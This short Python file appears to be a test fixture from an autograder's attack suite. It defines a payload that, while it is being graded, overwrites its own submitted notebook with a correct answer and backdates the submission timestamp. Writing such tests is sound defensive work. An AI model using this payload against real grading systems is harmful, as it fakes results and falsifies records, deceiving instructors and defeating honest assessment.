"""Puts a right answer into its own submission, and dates it back, while it is being graded."""

from tests.attacks.suite import STUB, Attack

ATTACK = Attack(
    harm="full marks at the next grading",
    answer=STUB
    + """
import json

folder = f"{COURSE}/submitted/{NAME}/4_parameter_update"
try:
    with open(f"{folder}/10_update_parameters.ipynb", "r+") as file:
        notebook = json.load(file)
        for cell in notebook["cells"]:
            if "succeeded" in "".join(cell["source"]):
                cell["source"] = RIGHT
        file.seek(0)
        file.truncate()
        json.dump(notebook, file)
    succeeded("replaced its submission")
except OSError:
    pass
try:
    with open(f"{folder}/timestamp.txt", "w") as file:
        file.write("2001-01-01 00:00:00 UTC")
    succeeded("dated it back")
except OSError:
    pass
""",
)
